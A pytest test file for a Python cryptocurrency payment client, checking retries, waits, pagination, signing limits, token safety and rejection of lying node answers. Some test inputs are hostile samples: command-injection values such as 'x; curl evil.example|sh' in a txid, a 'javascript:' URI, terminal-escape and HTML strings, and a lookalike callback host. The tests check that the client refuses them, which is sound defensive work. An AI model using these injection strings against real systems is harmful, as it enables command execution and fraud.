"""What the Python clients repeat, refuse and wait for: their calls without a network."""

import asyncio
import inspect
import json
import re
from collections.abc import Callable, Sequence
from math import inf
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import svc_pay
from svc_pay import AsyncClient, Client, Order, State, calls
from svc_pay.calls import Answer, Call, OwnNetwork, Pause, Steps
from svc_pay.client import _Settings
from svc_pay.members import Members

SHOP = "svcd1qqr0t67zeqfa0ed44hudd8s2a88ysuh7y0c0qcc"
THIEF = "svcd1qwv5rncn0lmw4h7ny97sugyxaamll6rc3xzlfeq"
ORDER = Order("order-1", SHOP, 100, 3)
LOST = svc_pay.NodeUnreachable("the node does not answer: it was lost")


def answer(content: object, status: int = 200, retry_after: str | None = None) -> Answer:
    return Answer(status, retry_after, json.dumps(content).encode())


def refusal(status: int, retry_after: str | None = None) -> Answer:
    return answer({"ok": False, "error": "no, and this is why"}, status, retry_after)


HASH = "ab" * 32


def payment(state: str, *, synced: bool = True, **changes: Any) -> Answer:
    content: dict[str, Any] = {
        "state": state,
        "reference": "order-1",
        "recipient": SHOP,
        "amount": "100",
        "canonical": state in ("confirming", "confirmed"),
        "confirmations": {"confirming": 1, "confirmed": 3}.get(state, 0),
        "requiredConfirmations": 3,
        "matchCount": 0,
        "mismatches": [],
        "tip": {"height": "1", "hash": HASH},
        "node": {"height": "1", "hash": HASH, "synced": synced},
    }
    return answer({"ok": True, "payment": content | changes})


class Ran:
    """What a generator of calls did with these answers."""

    def __init__(
        self, steps: Steps[Any], answers: Sequence[Answer | svc_pay.NodeUnreachable], *, retry_seconds: float = 5
    ) -> None:
        settings = _Settings("http://node", None, 1, retry_seconds)
        self.calls: list[Call] = []
        self.pauses: list[float] = []
        self.result: Any = None
        self.error: svc_pay.SvcPayError | None = None
        left = list(answers)
        try:
            step = next(steps)
            while True:
                if isinstance(step, Pause):
                    refused = settings.refusal(step, inf)
                    if refused is None:
                        self.pauses.append(step.seconds)
                    step = steps.send(None) if refused is None else steps.throw(refused)
                    continue
                if isinstance(step, OwnNetwork):
                    step = steps.send(None)
                    continue
                assert isinstance(step, Call)
                self.calls.append(step)
                came = left.pop(0)
                step = steps.throw(came) if isinstance(came, svc_pay.NodeUnreachable) else steps.send(came)
        except StopIteration as stop:
            self.result = stop.value
        except svc_pay.SvcPayError as error:
            self.error = error
        assert left == []


@pytest.mark.parametrize("trouble", [LOST, refusal(503), refusal(429), refusal(502)])
def test_a_question_is_repeated(trouble: Any) -> None:
    ran = Ran(calls.payment(ORDER), [trouble, trouble, payment("unpaid")])
    assert ran.result.state is State.UNPAID
    assert [0.25 <= ran.pauses[0] <= 0.5, 0.5 <= ran.pauses[1] <= 1] == [True, True]
    ran = Ran(calls.payment(ORDER), [trouble] * 4)
    assert (len(ran.calls), len(ran.pauses)) == (4, 3)
    assert isinstance(ran.error, svc_pay.NodeUnreachable | svc_pay.ApiError)


def request_of(**changes: object) -> Answer:
    """A node's payment request for 1.5 coins, named "Tea & cake"."""
    made = {"reference": "order-1", "recipient": SHOP, "amount": "150000000", "requiredConfirmations": 12}
    made |= {"networkId": 2, "sinceHeight": "7", "label": "Tea & cake"}
    made["paymentUri"] = f"svc:{SHOP}?amount=1.5&ref=order-1&confirmations=12&label=Tea%20%26%20cake"
    terms = f"reference=order-1&recipient={SHOP}&amount=1.5&confirmations=12&sinceHeight=7"
    made["checkoutPath"] = f"/pay/?{terms}&label=Tea%20%26%20cake"
    made["walletPath"] = f"/wallet/?pay={quote(str(made['paymentUri']), safe='')}"
    return answer({"ok": True, "payment": made | changes})


def requested(given: Answer, *, reference: str | None = "order-1") -> Ran:
    return Ran(calls.payment_request(SHOP, 150_000_000, reference=reference, label="Tea & cake"), [given])


@pytest.mark.parametrize("warning", [None, "not yet"])
def test_a_payment_request_says_why_nobody_can_pay_it(warning: str | None) -> None:
    made = requested(request_of(warning=warning)).result
    assert (made.warning, made.order.since_height, made.label) == (warning, 7, "Tea & cake")
    assert (made.order.reference, made.order.amount, made.order.confirmations) == ("order-1", 150_000_000, 12)
    assert made.payment_uri.endswith("&label=Tea%20%26%20cake")


@pytest.mark.parametrize(
    "lie",
    [
        {"paymentUri": "javascript:alert(1)"},
        {"paymentUri": f"svc:{THIEF}?amount=1.5&ref=order-1&confirmations=12&label=Tea%20%26%20cake"},
        {"checkoutPath": "@other.example/"},
        {"checkoutPath": f"/pay/?reference=order-1&recipient={THIEF}&amount=1.5&confirmations=12&sinceHeight=7"},
        {"walletPath": "/wallet/"},
        {"recipient": THIEF},
        {"amount": "1"},
        {"amount": 150_000_000},
        {"reference": "order-2"},
        {"requiredConfirmations": 1},
        {"requiredConfirmations": 12.0},
        {"networkId": 1},
        {"label": "Coffee"},
        {"label": None},
        {"sinceHeight": 7},
    ],
)
def test_a_node_changes_nothing_of_a_payment_request(lie: dict[str, object]) -> None:
    assert isinstance(requested(request_of(**lie)).error, svc_pay.InvalidAnswer)


def test_a_node_does_not_choose_the_reference_of_an_order() -> None:
    """It could choose that of an order which is paid."""
    asked = [requested(request_of(), reference=None) for _ in range(2)]
    assert all(isinstance(ran.error, svc_pay.InvalidAnswer) for ran in asked)
    first, second = (json.loads(ran.calls[-1].body)["reference"] for ran in asked)
    assert first != second
    assert re.fullmatch("pay_[a-z2-7]{26}", first)


@pytest.mark.parametrize(
    ("steps", "member", "content"),
    [
        (lambda: calls.payment(ORDER), "payment", {**json.loads(payment("unpaid").body)["payment"], "amount": "99"}),
        (lambda: calls.account(SHOP), "account", {"address": THIEF}),
        (lambda: calls.block_hash(7), "block", {"height": "8", "hash": HASH}),
        (lambda: calls.watch("svcwh_1"), "subscription", {"id": "svcwh_2"}),
        (lambda: calls.cancel("svcwh_1"), "subscription", {"id": "svcwh_2"}),
        (lambda: calls.register(ORDER, "https://a/"), "subscription", {"reference": "order-2"}),
        (lambda: calls.redeliver("svcwh_1", "svcev_1"), "event", {"id": "svcev_2"}),
    ],
)
def test_an_answer_about_something_else_is_refused(steps: Callable[[], Steps[Any]], member: str, content: Any) -> None:
    ran = Ran(steps(), [answer({"ok": True, member: content})])
    assert isinstance(ran.error, svc_pay.InvalidAnswer)
    assert "than the one that was asked for" in str(ran.error)


def endless(following: Callable[[int], str], size: int = 0) -> svc_pay.SvcPayError | None:
    steps = calls.payments(SHOP)
    next(steps)
    try:
        steps.send(None)
        for number in range(2000):
            page = answer({"payments": [], "next": following(number)})
            steps.send(Answer(200, None, page.body + b" " * size))
    except svc_pay.SvcPayError as error:
        return error
    return None


def test_a_list_without_end_is_an_error() -> None:
    assert "begins again" in str(endless(lambda number: f"{number % 3}"))
    assert "more than 1000 pages" in str(endless(str))
    assert "or 67108864 bytes" in str(endless(str, 4 * 1024 * 1024))


def test_calls_go_through_the_transport_that_is_given() -> None:
    body = json.loads(payment("unpaid").body)
    transport = httpx.MockTransport(lambda request: httpx.Response(200, json=body))
    with Client("http://node.example", transport=transport) as client:
        assert client.payment(ORDER).state is State.UNPAID

    async def asked() -> State:
        async with AsyncClient("http://node.example", transport=transport) as client:
            return (await client.payment(ORDER)).state

    assert asyncio.run(asked()) is State.UNPAID


def test_retry_after_is_respected_as_long_as_the_caller_waits() -> None:
    """A request of a shop's buyer must not sleep for a minute: five seconds, unless the caller says more."""
    ran = Ran(calls.payment(ORDER), [refusal(429, "2"), refusal(503, "3"), payment("unpaid")])
    assert ran.pauses == [2, 3]
    ran = Ran(calls.payment(ORDER), [refusal(429, "2"), refusal(429, "4")])
    assert (ran.pauses, getattr(ran.error, "retry_after", 0)) == ([2], 4)
    ran = Ran(calls.payment(ORDER), [refusal(429, "60")])
    assert isinstance(ran.error, svc_pay.TooManyRequests)
    assert (ran.pauses, ran.error.status, ran.error.retry_after, str(ran.error)) == ([], 429, 60, "no, and this is why")
    ran = Ran(calls.payment(ORDER), [refusal(429, "60"), payment("unpaid")], retry_seconds=60)
    assert ran.pauses == [60]
    ran = Ran(calls.payment(ORDER), [refusal(429, "Wed, 21 Oct 2026 07:28:00 GMT"), payment("unpaid")])
    assert ran.pauses[0] <= 0.5


@pytest.mark.parametrize("trouble", [LOST, refusal(503), refusal(429, "1"), refusal(409)])
@pytest.mark.parametrize(
    "unrepeatable", [lambda: calls.redeliver("svcwh_1", "svcevt_1"), lambda: calls.test_callback("https://a.example/")]
)
def test_requests_that_are_not_idempotent_are_never_repeated(trouble: Any, unrepeatable: Any) -> None:
    ran = Ran(unrepeatable(), [trouble])
    assert (len(ran.calls), ran.pauses) == (1, [])
    assert ran.error is not None


@pytest.mark.parametrize(
    ("status", "error"),
    [
        (400, svc_pay.BadRequest),
        (401, svc_pay.Unauthorized),
        (404, svc_pay.NotFound),
        (409, svc_pay.Conflict),
        (500, svc_pay.Unavailable),
        (418, svc_pay.ApiError),
    ],
)
def test_a_refusal_has_a_type_and_the_sentence_of_the_node(status: int, error: type[svc_pay.ApiError]) -> None:
    ran = Ran(calls.account(SHOP), [refusal(status)])
    assert (type(ran.error), str(ran.error)) == (error, "no, and this is why")


HOSTILE = "\x1b[2J\x1b[31mpay to evil\u202e\u2028\u200b<b>" + "x" * 3_000_000


@pytest.mark.parametrize(
    "came",
    [
        answer({"ok": False, "error": HOSTILE}, 400),
        payment(HOSTILE),
        payment("unpaid", work={"coreHoursToUndo": HOSTILE, "workConfirmations": HOSTILE, "hashesToUndo": "1"}),
        payment("unpaid", reference=HOSTILE),
    ],
)
def test_the_text_of_a_node_in_an_error_is_short_and_visible(came: Answer) -> None:
    """It goes to terminals, logs and pages of shops."""
    sentence = str(Ran(calls.payment(ORDER), [came]).error)
    assert len(sentence) < 1_100
    assert sentence.isprintable()


def test_the_sentences_of_a_node_are_short_and_visible() -> None:
    escaped = "\\u{1b}[2J\\u{1b}[31mpay to evil\\u{202e}\\u{2028}\\u{200b}<b>"
    request = requested(request_of(warning=HOSTILE)).result
    assert request.warning.startswith(escaped)
    assert len(request.warning) == 1_000
    alarm = svc_pay.Alarm.parse(Members({"kind": "outage", "sentence": HOSTILE}, "the alarm"))
    assert alarm.sentence == request.warning
    listed = {"txid": HASH, "sender": SHOP, "reference": HOSTILE, "amount": "5", "canonical": False, "confirmations": 0}
    ran = Ran(calls.payments(SHOP, reference="order-1"), [answer({"ok": True, "payments": [listed], "next": None})])
    assert len(str(ran.error)) < 1_200


def test_what_refuses_the_method_of_a_call_is_no_node() -> None:
    for body in (b"<h1>Method Not Allowed</h1>", b'{"ok": false, "error": "this path answers GET, HEAD only"}'):
        ran = Ran(calls.payment_request(SHOP, 100), [Answer(405, None, body)])
        assert str(ran.error) == "the URL does not answer like a svcd node (status 405): check the URL"


def test_a_page_of_another_server_is_no_sentence() -> None:
    ran = Ran(calls.account(SHOP), [Answer(404, None, b"<h1>Not found</h1>")])
    assert str(ran.error) == "the URL does not answer like a svcd node (status 404): check the URL"
    ran = Ran(calls.account(SHOP), [Answer(502, None, b"<h1>Bad gateway</h1>")] * 4)
    assert str(ran.error) == "the URL answers with status 502; a proxy before the node may do that"


@pytest.mark.parametrize(
    "came",
    [
        Answer(200, None, b"<html>"),
        Answer(200, None, b"[]"),
        Answer(200, None, b"[" * 100_000),
        Answer(200, None, payment("unpaid").body.replace(b'"state"', b'"state": "confirmed", "state"')),
        Answer(200, None, payment("unpaid").body.replace(b"{", b'{"later": NaN, ', 1)),
        Answer(200, None, payment("unpaid").body.replace(b"{", b'{"later": 1.5, ', 1)),
        Answer(200, None, payment("unpaid").body.replace(b"{", b'{"later": [[[[[[[[]]]]]]]], ', 1)),
        Answer(200, None, payment("unpaid").body.decode().encode("utf-16")),
        answer({"ok": True}),
        payment("paid"),
        payment("unpaid", amount=100),
        payment("unpaid", amount="9007199254740992"),
        payment("unpaid", confirmations=1.5),
        payment("unpaid", canonical=1),
        payment("confirmed", canonical=False),
        payment("confirmed", confirmations=2),
        payment("confirmed", confirmations=2**53),
        payment("confirmed", sinceHeight="0"),
        payment("confirmed", amountSvc="1"),
        payment("pending", txid="x; curl evil.example"),
        payment("pending", txid="AB" * 32),
        payment("confirming", blockHash="ab"),
        payment("confirming", tip={"height": "1", "hash": "ab"}),
        payment("unpaid", mismatches=[{"txid": "ab", "amount": "1"}]),
        payment("unpaid", mismatches=[{"txid": HASH, "amount": "1", "amountSvc": "1"}]),
        payment("confirmed", reference="order-2"),
        payment("confirmed", amount="101"),
        payment("confirmed", recipient="svcd1qn5fh7d4g9cgv7j2enrscapqrvw8e85ye872pwt"),
    ],
)
def test_an_answer_that_makes_no_sense_is_an_error(came: Answer) -> None:
    assert isinstance(Ran(calls.payment(ORDER), [came]).error, svc_pay.InvalidAnswer)


@pytest.mark.parametrize("told", [None, "0", "1001", 1000])
def test_an_answer_with_another_height_to_begin_with_is_refused(told: object) -> None:
    """A transfer under the same reference from before that height would pay the order."""
    order = Order("order-1", SHOP, 100, 3, since_height=1000)
    assert Ran(calls.payment(order), [payment("confirmed", sinceHeight="1000")]).result.settled
    ran = Ran(calls.payment(order), [payment("confirmed", sinceHeight=told)])
    assert "sinceHeight differs" in str(ran.error)
    content = {**json.loads(payment("unpaid").body)["payment"], "sinceHeight": told}
    ran = Ran(calls.register(order, "https://a/"), [answer({"ok": True, "subscription": content})])
    assert "sinceHeight differs" in str(ran.error)


def test_a_wait_asks_with_the_state_it_knows() -> None:
    ran = Ran(
        calls.wait_for(ORDER, State.CONFIRMED, timeout=None),
        [payment("unpaid"), payment("pending"), payment("unpaid"), payment("confirming"), payment("confirmed")],
    )
    assert ran.result.settled
    asked = [(call.query.get("wait"), call.query.get("state"), call.seconds) for call in ran.calls]
    states = ["unpaid", "pending", "unpaid", "confirming"]
    assert asked == [(None, None, 0), *(("30", state, 30) for state in states)]


def test_a_payment_counts_as_confirmed_only_on_a_synced_node() -> None:
    unsynced = payment("confirmed", synced=False)
    ran = Ran(calls.wait_for(ORDER, State.CONFIRMED, timeout=None), [unsynced, unsynced, payment("confirmed")])
    assert ran.result.settled
    assert [call.query.get("wait") for call in ran.calls] == [None, "2", "2"]
    assert Ran(calls.wait_for(ORDER, State.CONFIRMING, timeout=None), [unsynced]).result.state is State.CONFIRMED


def test_a_long_poll_that_does_not_wait_is_not_asked_again_at_once() -> None:
    answers = [payment("unpaid"), payment("unpaid"), payment("unpaid"), payment("pending")]
    ran = Ran(calls.wait_for(ORDER, State.PENDING, timeout=None), answers)
    assert (ran.result.state, ran.pauses) == (State.PENDING, [2, 2])
    assert [call.query.get("wait") for call in ran.calls] == [None, "30", "30", "30"]


def test_a_wait_for_which_there_is_no_room_asks_without_waiting() -> None:
    full = [refusal(429, "1")] * 4
    ran = Ran(calls.wait_for(ORDER, State.PENDING, timeout=None), [payment("unpaid"), *full, payment("pending")])
    assert ran.result.state is State.PENDING
    assert ran.calls[-1].query.get("wait") is None


def test_a_wait_ends() -> None:
    ran = Ran(calls.wait_for(ORDER, State.PENDING, timeout=0), [payment("unpaid")])
    assert isinstance(ran.error, svc_pay.WaitTimeout)
    assert str(ran.error) == "the payment of order-1 is unpaid, not yet pending"


def test_a_wait_goes_on_without_its_node_until_its_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    now = 0.0

    def later() -> float:
        nonlocal now
        now += 4
        return now

    monkeypatch.setattr(calls, "monotonic", later)
    ran = Ran(calls.wait_for(ORDER, State.PENDING, timeout=19), [LOST, refusal(503, "600"), payment("unpaid")])
    assert str(ran.error) == "the payment of order-1 is unpaid, not yet pending"
    assert isinstance(ran.error, svc_pay.WaitTimeout)
    assert ran.pauses == [2, 7]
    assert [call.limit for call in ran.calls] == [20, 12, 4]
    now = 0
    ran = Ran(calls.wait_for(ORDER, State.PENDING, timeout=3), [LOST])
    assert str(ran.error) == f"the payment of order-1 is not known; the last question failed: {LOST}"
    assert isinstance(Ran(calls.wait_for(ORDER, State.PENDING, timeout=None), [LOST] * 4).error, type(LOST))
    with Client("http://node.example", timeout=5) as client:
        monkeypatch.setattr(svc_pay.client, "monotonic", lambda: 100.0)
        until = client._settings.until
    requests = (calls.get("/"), calls.get("/", seconds=30), calls.get("/", limit=3))
    assert [until(request) for request in requests] == [105, 135, 103]


def test_payments_are_read_page_after_page_and_told_once() -> None:
    one = {"txid": HASH, "sender": SHOP, "reference": None, "amount": "5", "canonical": False, "confirmations": 0}
    pages = [{"payments": [one], "next": "x"}, {"payments": [], "next": "y"}]
    pages.append({"payments": [{**one, "canonical": True, "confirmations": 1, "blockHeight": "9"}], "next": None})
    steps = calls.payments(SHOP, reference=None, amount=None, since_height=None)
    ran = Ran(steps, [answer({"ok": True, **page}) for page in pages])
    assert [(each.txid, each.canonical, each.block_height) for each in ran.result] == [(HASH, True, 9)]
    assert [call.query.get("after") for call in ran.calls] == [None, "x", "y"]


def test_the_timeout_of_a_client_is_for_a_whole_list(monkeypatch: pytest.MonkeyPatch) -> None:
    """However many pages a node makes of it: each page takes four seconds here."""
    now, asked = 100.0, 0

    def page(request: httpx.Request) -> httpx.Response:
        nonlocal now, asked
        now, asked = now + 4, asked + 1
        return httpx.Response(200, json={"payments": [], "next": f"{asked}"})

    for module in (calls, svc_pay.client, svc_pay.exchange):
        monkeypatch.setattr(module, "monotonic", lambda: now)
    sentence = "^the list has taken longer than 15 s: narrow it by since_height, or give a greater timeout$"
    with Client("http://node.example", timeout=15, transport=httpx.MockTransport(page)) as client:
        with pytest.raises(svc_pay.NodeUnreachable, match=sentence):
            client.payments(SHOP)
        assert asked == 4
        with pytest.raises(svc_pay.NodeUnreachable, match=sentence):
            client.payments(SHOP)
    assert asked == 8
    with (
        Client("http://node.example", timeout=4, transport=httpx.MockTransport(page)) as client,
        pytest.raises(svc_pay.NodeUnreachable, match="does not answer: the answer has taken too long"),
    ):
        client.payments(SHOP)


@pytest.mark.parametrize(
    ("asked", "lie", "sentence"),
    [
        ({"reference": "order-1"}, {"reference": "order-2"}, "its reference is 'order-2', not 'order-1'"),
        ({"reference": "order-1"}, {"reference": None}, "its reference is None, not 'order-1'"),
        ({"amount": 5}, {"amount": "4"}, "its mismatch is 'none', not 'too-little'"),
        ({"amount": 5}, {"amount": "6", "mismatch": "duplicate"}, "its mismatch is 'none', not 'too-much'"),
        ({"amount": 5}, {"mismatch": "too-much"}, "its mismatch is 'too-much', not 'none'"),
        ({"since_height": 10}, {"blockHeight": "9"}, "its block height is"),
    ],
)
def test_a_list_has_only_the_transfers_that_were_asked_for(
    asked: dict[str, Any], lie: dict[str, object], sentence: str
) -> None:
    one = {"txid": HASH, "sender": SHOP, "reference": "order-1", "amount": "5", "canonical": True, "confirmations": 1}
    one |= {"blockHeight": "10", "mismatch": None}
    good = Ran(calls.payments(SHOP, **asked), [answer({"ok": True, "payments": [one], "next": None})])
    assert [each.txid for each in good.result] == [HASH]
    ran = Ran(calls.payments(SHOP, **asked), [answer({"ok": True, "payments": [one | lie], "next": None})])
    assert isinstance(ran.error, svc_pay.InvalidAnswer)
    assert sentence in str(ran.error)


@pytest.mark.parametrize(
    "lie",
    [
        {"txid": "x; curl evil.example|sh"},
        {"sender": "<img src=x>\x1b[2J"},
        {"sender": "svc1qqr0t67zeqfa0ed44hudd8s2a88ysuh7ytvpxz4"},
        {"sender": SHOP[:-1] + "q"},
        {"mismatch": "bogus"},
        {"blockHash": "ab"},
        {"amountSvc": "1"},
        {"confirmations": 2**53},
    ],
)
def test_a_transfer_with_an_impossible_value_is_refused(lie: dict[str, object]) -> None:
    one = {"txid": HASH, "sender": SHOP, "reference": None, "amount": "5", "amountSvc": "0.00000005", "canonical": True}
    one |= {"confirmations": 1, "blockHeight": "10", "blockHash": HASH, "mismatch": "duplicate"}
    good = Ran(calls.payments(SHOP), [answer({"ok": True, "payments": [one], "next": None})])
    assert [each.mismatch for each in good.result] == ["duplicate"]
    ran = Ran(calls.payments(SHOP), [answer({"ok": True, "payments": [one | lie], "next": None})])
    assert isinstance(ran.error, svc_pay.InvalidAnswer)


@pytest.mark.parametrize(
    ("asked", "lie"),
    [
        ({"reference": "order-1"}, {"reference": "order-2"}),
        ({"state": "pending"}, {"lastState": "unpaid"}),
        ({"host": "shop.example.com"}, {"callbackUrl": "https://shop.example.com.evil.example/"}),
        ({"host": "shop.example.com"}, {"callbackUrl": "https://[/"}),
    ],
)
def test_a_page_has_only_the_watches_that_were_asked_for(asked: dict[str, str], lie: dict[str, str]) -> None:
    one: dict[str, object] = {"id": "svcwh_1", "active": True, "lastState": "pending", "wantedEvents": []}
    one |= {"callbackUrl": "https://shop.example.com:8443/paid", "reference": "order-1", "recipient": SHOP}
    one |= {"amount": "5", "requiredConfirmations": 3, "expiresAt": "1", "createdAt": "1"}
    good = Ran(calls.watches(**asked), [answer({"ok": True, "subscriptions": [one], "next": None})])
    assert [each.id for each in good.result.watches] == ["svcwh_1"]
    ran = Ran(calls.watches(**asked), [answer({"ok": True, "subscriptions": [one | lie], "next": None})])
    assert "the node's list has a watch that was not asked for" in str(ran.error)


def test_watches_are_listed_page_after_page() -> None:
    one = {"id": "svcwh_1", "active": True, "lastState": "pending", "callbackUrl": "https://a/", "wantedEvents": []}
    one |= {"reference": "order-1", "recipient": SHOP, "amount": "5", "requiredConfirmations": 3}
    one |= {"expiresAt": "2", "createdAt": "1", "events": []}
    ran = Ran(
        calls.watches(reference="order-1", state="pending", host="a", after="svcwh_2", limit=9),
        [refusal(503), answer({"ok": True, "subscriptions": [one], "next": "svcwh_1"})],
    )
    assert ([each.id for each in ran.result.watches], ran.result.next) == (["svcwh_1"], "svcwh_1")
    assert [(call.path, call.authorized) for call in ran.calls] == [("/rpc/commerce/webhooks", True)] * 2
    query = {"reference": "order-1", "state": "pending", "host": "a", "after": "svcwh_2", "limit": "9"}
    assert ran.calls[0].query == query
    none = calls.watches(reference=None, state=None, host=None, after=None, limit=50)
    ran = Ran(none, [answer({"subscriptions": [], "next": None})])
    assert (ran.result.watches, ran.result.next, ran.calls[0].query) == ((), None, {"limit": "50"})


def test_a_proof_is_the_answer_as_it_came() -> None:
    ran = Ran(calls.proof(ORDER), [answer({"next": None})])
    assert [call.query.get("chain") for call in ran.calls] == ["1"]
    assert ran.result == answer({"next": None}).body


@pytest.mark.parametrize(
    "ask",
    [
        lambda: calls.payment_request(SHOP[:-1], 100),
        lambda: calls.payment(ORDER, wait=5),
        lambda: calls.wait_for(ORDER, State.UNPAID, timeout=None),
        lambda: calls.payments("nobody", reference=None, amount=None, since_height=None),
        lambda: calls.payments(SHOP, reference=None, amount=None, since_height=-1),
        lambda: calls.account("../status"),
        lambda: calls.block_hash(-1),
        lambda: signing(2.5),
        lambda: signing(0),
        lambda: signing(1, SHOP[:-1]),
    ],
)
def test_impossible_values_are_refused_before_anything_is_asked(ask: Callable[[], Steps[Any]]) -> None:
    with pytest.raises(svc_pay.InvalidInput):  # noqa: PT012
        steps = ask()
        if isinstance(next(steps), OwnNetwork):
            steps.send(None)


def test_an_error_of_the_node_does_not_end_a_wait() -> None:
    ran = Ran(calls.wait_for(ORDER, State.PENDING, timeout=9), [refusal(500), payment("pending")])
    assert ran.result.state is State.PENDING


def test_only_watches_get_the_token() -> None:
    assert not any(call.authorized for call in Ran(calls.payment(ORDER), [payment("unpaid")]).calls)
    with Client("http://127.0.0.1:1") as client, pytest.raises(svc_pay.InvalidInput, match="management token"):
        client.watch("svcwh_1")


@pytest.mark.parametrize("url", ["127.0.0.1:18645", "ftp://node.example", "http://[::1", "http://", ""])
def test_a_url_that_is_none_is_refused(url: str) -> None:
    with pytest.raises(svc_pay.InvalidInput):
        Client(url)


@pytest.mark.parametrize("token", ["a-secret-token\n", "a-secret-token\nand more", "a-secret tokén", ""])
@pytest.mark.parametrize("client", [Client, AsyncClient])
def test_a_token_that_no_header_can_have_is_refused_and_not_repeated(client: Any, token: str) -> None:
    with pytest.raises(svc_pay.InvalidInput, match="visible ASCII characters") as refused:
        client("http://node.example", token=token)
    assert "secret" not in str(refused.value)


@pytest.mark.parametrize("client", [Client, AsyncClient])
def test_a_token_does_not_cross_the_network_unencrypted_unless_it_may(client: Any) -> None:
    for url in ("http://node.example", "http://127.0.0.1.example:8645", "http://10.0.0.7:8645", "HTTP://node.example"):
        with pytest.raises(svc_pay.InvalidInput) as refused:
            client(url, token="a-secret-token")
        assert "a-secret-token" not in str(refused.value)
    with pytest.raises(svc_pay.InvalidInput, match=r"unencrypted to node\.example: use https://.* insecure_http=True"):
        client("http://node.example", token="a-secret-token")
    client("http://node.example", token="a-secret-token", insecure_http=True)
    client("http://node.example")
    for url in (
        "https://node.example",
        "http://127.0.0.1:18645",
        "http://127.8.9.1",
        "http://[::1]:1",
        "http://localhost",
    ):
        client(url, token="a-secret-token")


KEY = svc_pay.Key(bytes(32))
OWN = KEY.address(svc_pay.DEVNET)
NOTHING = "the account can send nothing now: it has {} base units, needs 10000 for the fee, and must keep 1000000"


def consensus(network: svc_pay.Network = svc_pay.DEVNET) -> Answer:
    return answer({"consensus": {"genesisHash": network.genesis_hash, "accountMinimum": "1000000"}})


def fees(suggested: str) -> Answer:
    return answer({"fees": {"suggestedFee": suggested}})


def account(address: str, *, balance: int, waiting: int = 0) -> Answer:
    content = {"balance": str(balance), "pendingBalance": str(balance - waiting), "nonce": "3", "pendingNonce": "4"}
    return answer({"account": {"address": address, **content}})


def signing(
    amount: Any, recipient: str = SHOP, *, maximum_fee: int = 10_000, nonce: Any = None
) -> Steps[svc_pay.SignedTransfer]:
    return calls.sign(
        KEY, svc_pay.DEVNET, recipient=recipient, amount=amount, reference=None, maximum_fee=maximum_fee, nonce=nonce
    )


def test_a_fee_above_the_limit_is_not_paid() -> None:
    ran = Ran(signing(1), [consensus(), fees("10001")])
    assert str(ran.error) == "the node suggests a fee of 10001 base units, more than maximum_fee 10000"


def test_nothing_is_signed_for_another_network() -> None:
    error = str(Ran(signing(1), [consensus(svc_pay.MAINNET)]).error)
    assert error.startswith("the node is not on devnet: its genesis hash is '162757d6c59d")


@pytest.mark.parametrize(
    ("amount", "balance", "received", "sentence", "possible"),
    [
        (
            990_001,
            2_000_000,
            10**6,
            "the account must keep 1000000 base units: it can send at most 990000 now",
            990_000,
        ),
        (
            2**53 - 1,
            2**53 - 6,
            0,
            "the account must keep 1000000 base units: it can send at most 9007199253730986 now",
            9007199253730986,
        ),
        (
            999_999,
            10**8,
            0,
            "the recipient must have 1000000 base units after the transfer: send at least 1000000",
            10**6,
        ),
        (1, 10**8, 999_998, "the recipient must have 1000000 base units after the transfer: send at least 2", 2),
        (
            990_001,
            2_000_000,
            0,
            "the account can send at most 990000 base units now, and the recipient needs at least 1000000: "
            "each must have 1000000 after the transfer",
            None,
        ),
        (
            1,
            1_010_000,
            10**6,
            NOTHING.format(1010000),
            None,
        ),
        (
            1,
            0,
            0,
            NOTHING.format(0),
            None,
        ),
    ],
)
def test_no_transfer_leaves_an_account_below_the_minimum(
    amount: int, balance: int, received: int, sentence: str, possible: int | None
) -> None:
    # What the sender's own transfers spend counts while they wait.
    sender, recipient = account(OWN, balance=balance + 5, waiting=5), account(SHOP, balance=received, waiting=received)
    answers = [consensus(), fees("10000"), sender, recipient]
    ran = Ran(signing(amount), answers)
    assert isinstance(ran.error, svc_pay.ImpossibleAmount)
    assert (str(ran.error), ran.error.possible) == (sentence, possible)
    if possible is not None:
        signed = Ran(signing(possible), answers if possible < 10**6 else answers[:3]).result
        assert signed.transaction["payload"]["amount"] == str(possible)
        assert signed.transaction["nonce"] == "4"


def test_an_amount_that_is_enough_for_any_recipient_needs_no_look_at_its_account() -> None:
    answers = [consensus(), fees("10000"), account(OWN, balance=2_010_000)]
    assert Ran(signing(1_000_000), answers).result.transaction["payload"]["recipient"] == SHOP


def test_a_transfer_to_oneself_asks_for_one_account() -> None:
    answers = [consensus(), fees("10000"), account(OWN, balance=1_010_001)]
    assert Ran(signing(1, OWN), answers).result.transaction["payload"]["recipient"] == OWN
    error = Ran(signing(2, OWN), answers).error
    assert isinstance(error, svc_pay.ImpossibleAmount)
    assert error.possible == 1


@pytest.mark.parametrize(
    ("nonce", "signed", "waiting"), [(None, "4", 0), (3, "3", 1_000_000), (4, "4", 0), (9, "9", 0)]
)
def test_the_nonce_is_the_next_one_or_the_one_that_was_given(nonce: int | None, signed: str, waiting: int) -> None:
    """A transfer with nonce 3 replaces one that waits, and can spend its coins."""
    answers = [consensus(), fees("10000"), account(OWN, balance=2_010_000, waiting=waiting)]
    assert Ran(signing(1_000_000, nonce=nonce), answers).result.transaction["nonce"] == signed


def test_a_nonce_that_is_used_or_none_is_refused() -> None:
    ran = Ran(signing(1, nonce=2), [consensus(), fees("10000"), account(OWN, balance=10**8)])
    assert (type(ran.error), str(ran.error)) == (svc_pay.InvalidInput, "nonce 2 is already used; the next one is 3")
    for nonce in (-1, "3", 2**53):
        with pytest.raises(svc_pay.InvalidInput, match="nonce must be an integer"):
            next(signing(1, nonce=nonce))


def test_both_clients_have_the_calls_as_methods_with_their_parameters_and_descriptions() -> None:
    def methods(client: type) -> dict[str, Callable[..., Any]]:
        return {name: each for name, each in inspect.getmembers(client, inspect.isfunction) if not name.startswith("_")}

    blocking, coroutines = methods(Client), methods(AsyncClient)
    del blocking["close"], coroutines["aclose"]
    assert blocking.keys() == coroutines.keys()
    for name, method in blocking.items():
        assert method.__doc__ == coroutines[name].__doc__ == getattr(calls, name).__doc__
        assert inspect.signature(method) == inspect.signature(coroutines[name])
        assert inspect.iscoroutinefunction(coroutines[name])
        assert not inspect.iscoroutinefunction(method)
    shown = "(self, /, order: svc_pay.model.Order, *, wait: int = 0, state: svc_pay.model.State | None = None)"
    assert str(inspect.signature(Client.payment)) == f"{shown} -> svc_pay.model.Payment"
    assert (Client.payment.__name__, Client.payment.__module__) == ("payment", "svc_pay.client")
